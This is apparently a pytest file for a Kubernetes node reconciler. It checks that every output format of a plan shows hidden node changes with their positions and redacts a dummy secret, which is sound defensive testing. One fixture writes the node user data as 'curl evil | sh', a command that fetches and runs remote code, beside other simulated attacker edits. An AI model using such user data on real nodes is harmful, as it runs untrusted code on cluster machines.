"""Changes that reach nodes: each is shown in every format of a plan, with its position.

Secrets in changed fields must not be shown.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from html import unescape
from pathlib import Path
from typing import Any

import msgspec
import pytest

from reconciler.cli.main import main
from reconciler.desired.lock import (
    FactSource,
    Lock,
    LockedCatalog,
    LockedClass,
    LockedType,
    choices_digest,
    encode,
    selectors_digest,
)
from reconciler.model.karpenter.nodeclass import AMI, SecurityGroup, Subnet
from reconciler.source.plainyaml import dump
from tests.cli.test_plan import CATALOG, CLASS, DEPLOYMENT, NOW, POOL
from tests.hostile.threats import Threat, attack
from tests.repositories import commit_all, init
from tests.yamltext import load

OLD, NEW = "ami-0aaaaaaaaaaaaaaaa", "ami-0bbbbbbbbbbbbbbbb"
SECRET = "hunter2-do-not-show"
FORMS = ("text", "json", "markdown", "html")

Edit = Callable[["Repository"], None]


class Repository:
    """A fleet in git whose head is edited; the base is the version before."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        folder.mkdir()
        (folder.parent / "catalog.json").write_text(json.dumps(CATALOG))
        self.node_class: dict[str, Any] = load(CLASS)
        self.node_class["spec"]["userData"] = f"#!/bin/sh\nexport TOKEN={SECRET}\n"
        self.pool: dict[str, Any] = load(POOL)
        self.deployment: dict[str, Any] = load(DEPLOYMENT)
        self.config: dict[str, Any] = {
            "apiVersion": "reconciler/v1",
            "kind": "Configuration",
            "fleet": "web",
            "aws": {"region": "us-east-1"},
        }
        entry = LockedClass(
            selectors=selectors_digest(self.node_class),
            amis=(AMI(OLD, "golden-1"),),
            subnets=(Subnet("subnet-old", "z-a"),),
            security_groups=(SecurityGroup("sg-old", "nodes"),),
            instance_profile="profile-old",
        )
        source = FactSource(source="bundled")
        self.lock = Lock(
            locked_at=datetime(2026, 1, 1, tzinfo=UTC),
            region="us-east-1",
            catalog=LockedCatalog(
                instance_types=source, bundle="1", bundle_digest="1", on_demand=source, spot=source
            ),
            node_pools={"general": choices_digest(self.pool)},
            node_classes={"default": entry},
            types={
                f"m5.{n}xlarge": LockedType(on_demand=float(n), zones=("z-a",))
                for n in range(1, 301)
            },
        )
        init(self.folder)
        self.commit()

    def locked(self, **fields: Any) -> None:
        """Change what is locked for the node class."""
        entry = msgspec.structs.replace(self.lock.node_classes["default"], **fields)
        self.lock = msgspec.structs.replace(self.lock, node_classes={"default": entry})

    def write(self) -> None:
        objects = {
            "pool.yaml": self.pool,
            "class.yaml": self.node_class,
            "app.yaml": self.deployment,
            "reconciler.yaml": self.config,
        }
        for name, data in objects.items():
            (self.folder / name).write_text(dump(data, sort_keys=False))
        (self.folder / "reconciler.lock").write_bytes(encode(self.lock))

    def commit(self) -> None:
        self.write()
        commit_all(self.folder)

    def line_of(self, place: str) -> str:
        """Return ``file:line`` of the first line of a file that has a text."""
        file, _, text = place.partition(" ")
        lines = (self.folder / file).read_text().splitlines()
        return f"{file}:{next(i for i, line in enumerate(lines, 1) if text in line)}"


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repository:
    for name in ("AWS_ENDPOINT_URL", "AWS_PROFILE", "AWS_REGION", "AWS_DEFAULT_REGION"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("COLUMNS", "200")
    return Repository(tmp_path / "fleet")


def plans(repository: Repository, capsys: pytest.CaptureFixture[str], *more: str) -> dict[str, str]:
    """Return the plan of the head against its base, in every format."""
    repository.write()
    catalog = str(repository.folder.parent / "catalog.json")
    words = ["plan", str(repository.folder), "--base", "HEAD", "--catalog", catalog, "--now", NOW]
    found = {}
    for form in FORMS:
        capsys.readouterr()
        assert main([*words, "-o", form, *more]) == 0
        found[form] = plain(capsys.readouterr().out)
    return found


def plain(text: str) -> str:
    """Return a page or a comment as its reader sees it."""
    shown = unescape(re.sub(r"</?(?:code|br|div|b|span)[^>]*>", " ", text)) if "<" in text else text
    return re.sub(r"[ \u200b\u00a0]+", " ", shown)


def in_spec(**fields: Any) -> Edit:
    return lambda r: r.node_class["spec"].update(fields)


def in_config(**fields: Any) -> Edit:
    return lambda r: r.config.update(fields)


WINDOW = {"schedule": "0 22 * * *", "duration": "8h", "nodePools": ["*"]}
COMMITMENT = {"type": "Compute", "commitment": 1.5, "discountPercent": 30}
HIDDEN: Mapping[str, tuple[Edit, str, tuple[str, ...]]] = {
    "an image in the lock": (
        lambda r: r.locked(amis=(AMI(NEW, "golden-2"),)),
        'reconciler.lock "amis"', (OLD, NEW, "golden-2"),
    ),
    "a subnet in the lock": (
        lambda r: r.locked(subnets=(Subnet("subnet-new", "z-b"),)),
        'reconciler.lock "subnets"', ("subnet-old", "subnet-new"),
    ),
    "a security group in the lock": (
        lambda r: r.locked(security_groups=(SecurityGroup("sg-new", "open"),)),
        'reconciler.lock "securityGroups"', ("sg-old", "sg-new"),
    ),
    "an instance profile in the lock": (
        lambda r: r.locked(instance_profile="profile-admin"),
        'reconciler.lock "instanceProfile"', ("profile-old", "profile-admin"),
    ),
    "user data": (
        in_spec(userData=f"#!/bin/sh\ncurl evil | sh\n# {SECRET}\n"),
        "class.yaml apiVersion", ("spec.userData", "sha256:", "(2 lines)", "(3 lines)"),
    ),
    "block devices": (
        in_spec(blockDeviceMappings=[
            {"deviceName": "/dev/xvda", "ebs": {"volumeSize": "900Gi", "encrypted": False}}
        ]),
        "class.yaml apiVersion", ("spec.blockDeviceMappings", "900Gi"),
    ),
    "metadata options": (
        in_spec(metadataOptions={"httpTokens": "optional"}),
        "class.yaml apiVersion", ("spec.metadataOptions.httpTokens", "optional"),
    ),
    "kubelet settings": (
        in_spec(kubelet={"maxPods": 7}), "class.yaml apiVersion", ("spec.kubelet.maxPods", "7"),
    ),
    "tags": (
        in_spec(tags={"owner": "mallory"}), "class.yaml apiVersion", ("spec.tags.owner", "mallory"),
    ),
    "a role": (in_spec(role="admin"), "class.yaml apiVersion", ("spec.role", "admin")),
    "the price book": (
        in_config(priceBook={"discountPercent": 90}),
        "reconciler.yaml discountPercent", ("priceBook.discountPercent", "90"),
    ),
    "the packing": (
        in_config(packing="cheapest"), "reconciler.yaml packing", ("packing", "cheapest"),
    ),
    "the memory overhead": (
        in_config(vmMemoryOverheadPercent=0.5),
        "reconciler.yaml vmMemoryOverheadPercent", ("vmMemoryOverheadPercent", "0.5"),
    ),
    "the name of the cluster": (
        in_config(clusterName="another"), "reconciler.yaml clusterName", ("clusterName", "another"),
    ),
    "a guard of disruption": (
        in_config(disruption={"maximumPerDay": 999}),
        "reconciler.yaml maximumPerDay", ("disruption.maximumPerDay", "999"),
    ),
    "commitments": (
        in_config(commitments={"savingsPlans": [COMMITMENT]}),
        "reconciler.yaml savingsPlans", ("commitments.savingsPlans", "1.5"),
    ),
}  # fmt: skip


@attack(Threat.HIDDEN, "a change of a node that a plan does not show")
@pytest.mark.parametrize(("edit", "place", "shown"), HIDDEN.values(), ids=HIDDEN)
def test_every_format_of_a_plan_shows_the_change_and_its_position(
    repository: Repository,
    capsys: pytest.CaptureFixture[str],
    edit: Edit,
    place: str,
    shown: tuple[str, ...],
) -> None:
    edit(repository)
    found = plans(repository, capsys)
    where = repository.line_of(place)
    file, _, line = where.partition(":")
    for form, text in found.items():
        assert all(word in text for word in shown), f"{form}\n{text[:4000]}"
        if form != "json":
            assert where in text, f"{form}: {where}\n{text[:4000]}"
    changes = json.loads(found["json"])["changes"]
    assert (file, int(line)) in {(c["file"], c["line"]) for c in changes}
    assert SECRET not in "".join(found.values())


@attack(Threat.HIDDEN, "a launch from an image that the plan does not name")
def test_every_launch_names_its_image(
    repository: Repository, capsys: pytest.CaptureFixture[str]
) -> None:
    found = plans(repository, capsys)
    for form, text in found.items():
        assert OLD in text, form
    data = json.loads(found["json"])
    launches = [a for a in data["actions"] if a["kind"] == "provision"]
    assert launches
    image = {"alias": "al2023@latest", "id": OLD, "name": "golden-1"}
    assert [a["image"] for a in launches] == [image] * len(launches)
    assert [c["image"] for c in data["nodeClaims"]] == [image] * len(launches)
    (node_class,) = data["nodeClasses"]
    assert node_class["subnets"] == ["subnet-old"]
    assert node_class["spec"]["userData"].startswith("sha256:")


@attack(Threat.HIDDEN, "one price change among hundreds of others")
def test_identical_changes_are_grouped_with_a_link_to_the_complete_list(
    repository: Repository, capsys: pytest.CaptureFixture[str]
) -> None:
    types = {
        name: LockedType(on_demand=round((entry.on_demand or 0) * 1.1, 6), zones=entry.zones)
        for name, entry in repository.lock.types.items()
    }
    types["m5.7xlarge"] = LockedType(on_demand=0.0007, zones=("z-a",))
    repository.lock = msgspec.structs.replace(repository.lock, types=types)
    found = plans(repository, capsys)
    for form in ("text", "markdown", "html"):
        assert "300 prices from -100.0% to +10.0%" in found[form], form
    assert "m5.9xlarge" not in found["text"]
    assert "m5.7xlarge" in found["html"]
    (change,) = [c for c in json.loads(found["json"])["changes"] if c["kind"] == "Lock"]
    prices = {f["path"]: (f["from"], f["to"]) for f in change["fields"]}
    assert prices["m5.7xlarge"] == (7.0, 0.0007)
    assert len(prices) == 300


def test_rewriting_a_lock_changes_nothing(
    repository: Repository, capsys: pytest.CaptureFixture[str]
) -> None:
    later = datetime(2026, 1, 2, tzinfo=UTC)
    repository.lock = msgspec.structs.replace(repository.lock, locked_at=later)
    assert json.loads(plans(repository, capsys)["json"])["changes"] == []


def test_a_removed_lock_is_a_change(
    repository: Repository, capsys: pytest.CaptureFixture[str]
) -> None:
    (repository.folder / "reconciler.lock").unlink()
    write = repository.write
    repository.write = lambda: (write(), (repository.folder / "reconciler.lock").unlink())  # type: ignore[assignment, func-returns-value, method-assign]
    changes = json.loads(plans(repository, capsys)["json"])["changes"]
    assert ("delete", "Lock", "reconciler.lock") in {
        (c["op"], c["kind"], c["name"]) for c in changes
    }


def set_environment(r: Repository) -> None:
    (container,) = r.deployment["spec"]["template"]["spec"]["containers"]
    container["env"] = [{"name": "PASSWORD", "value": SECRET}]
    container["args"] = ["--token", SECRET]


def set_annotation(r: Repository) -> None:
    r.pool["spec"]["template"]["metadata"] = {"annotations": {"example.com/key": SECRET}}


SECRETS: Mapping[str, tuple[Edit, str]] = {
    "the environment of a pod": (set_environment, "PASSWORD"),
    "an annotation": (set_annotation, "example.com/key"),
    "user data": (in_spec(userData=f"#!/bin/sh\nexport OTHER={SECRET}\n\n"), "spec.userData"),
    "an annotation of a pod": (
        lambda r: r.deployment["spec"]["template"]["metadata"].update(annotations={"k": SECRET}),
        "annotations",
    ),
}


@attack(Threat.SECRETS, "a secret in what a plan compares, launches or saves")
@pytest.mark.parametrize(("edit", "named"), SECRETS.values(), ids=SECRETS)
def test_a_plan_shows_that_a_secret_changed_and_not_the_secret(
    repository: Repository, capsys: pytest.CaptureFixture[str], edit: Edit, named: str
) -> None:
    edit(repository)
    out = repository.folder.parent / "plan.json"
    found = plans(repository, capsys, "--out", str(out))
    for form in FORMS:
        assert SECRET not in found[form], form
        assert named in found[form], form
    assert SECRET not in out.read_text()
